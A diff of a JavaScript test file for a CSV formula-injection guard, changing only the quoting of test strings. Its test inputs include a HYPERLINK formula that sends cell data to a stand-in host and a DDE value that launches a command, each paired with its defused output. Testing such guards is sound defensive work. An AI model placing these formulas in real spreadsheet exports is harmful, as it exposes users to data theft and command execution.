@@ -21,12 +21,12 @@ describe("the CSV formula guard", () => {
   it("defuses =, +, @, tab-, CR- and LF-led text and the dangerous minus", () => {
     for (const [text, out] of [
       ["=1+2", "'=1+2"],
-      ["=HYPERLINK(\"http://x.example/?\"&A1)", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\""],
+      ['=HYPERLINK("http://x.example/?"&A1)', '"\'=HYPERLINK(""http://x.example/?""&A1)"'],
       ["+44 20 7946 0000", "'+44 20 7946 0000"],
       ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
-      ["\t=1+2", "\"'\t=1+2\""],
-      ["\r=1+2", "\"'\r=1+2\""],
-      ["\n=1+2", "\"'\n=1+2\""],
+      ["\t=1+2", '"\'\t=1+2"'],
+      ["\r=1+2", '"\'\r=1+2"'],
+      ["\n=1+2", '"\'\n=1+2"'],
       ["  =1+2", "'  =1+2"],
       ["-2+3", "'-2+3"],
       ["-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"],
